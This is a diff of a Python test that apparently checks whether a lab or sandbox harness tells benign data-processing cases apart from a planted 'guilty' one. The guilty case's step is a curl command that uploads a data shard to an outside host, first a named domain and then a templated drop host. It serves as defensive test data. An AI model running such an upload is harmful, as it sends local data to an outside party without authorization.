@@ -92,9 +92,7 @@ def test_what_had_ended_when_a_run_was_interrupted_is_told_and_proves_nothing() 
 def test_of_benign_cases_that_share_a_lab_none_hides_behind_another_or_is_blamed_for_it() -> None:
     corpus = load_corpus(SHIPPED)
     csv, json = (case for case in corpus.cases if case.name in ("text and data: csv-sum", "text and data: json"))
-    guilty = dataclasses.replace(
-        csv, name="guilty", steps=("curl -s --data-binary @{shard} https://files.fernhollow.net/in",)
-    )
+    guilty = dataclasses.replace(csv, name="guilty", steps=("curl -sS -T {shard} https://{drop}/in/a.bin",))
     client = engine.connect(timeout=120)
     try:
         with workbench(client) as bench:
